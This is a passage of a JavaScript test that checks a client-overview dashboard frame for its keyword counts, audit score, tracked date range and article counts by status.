  assert.ok(numbersIn(await textOf(frame, 'tracked-keywords')).includes(overview.keywords.tracked_keywords));
  assert.ok(numbersIn(await textOf(frame, 'audit-score')).includes(overview.audits.latest.score));
  const range = await textOf(frame, 'date-range');
  const { first_tracked: first, last_tracked: last } = overview.keywords;
  assert.ok(showsDate(range, first) && showsDate(range, last), `the date range ${range} is ${first} to ${last}`);
  for (const kind of ['blogs', 'geo_articles']) {
    for (const [status, n] of Object.entries(overview.articles[kind]?.by_status ?? {})) {
      const total = (overview.articles.blogs?.by_status?.[status] ?? 0) + (overview.articles.geo_articles?.by_status?.[status] ?? 0);
      const shown = numbersIn(await textOf(frame, `articles-${status}`));
      assert.ok(shown.includes(n) || shown.includes(total), `articles ${status}: ${shown}`);
    }
  }
  await themes(frame, 'client-overview');
});
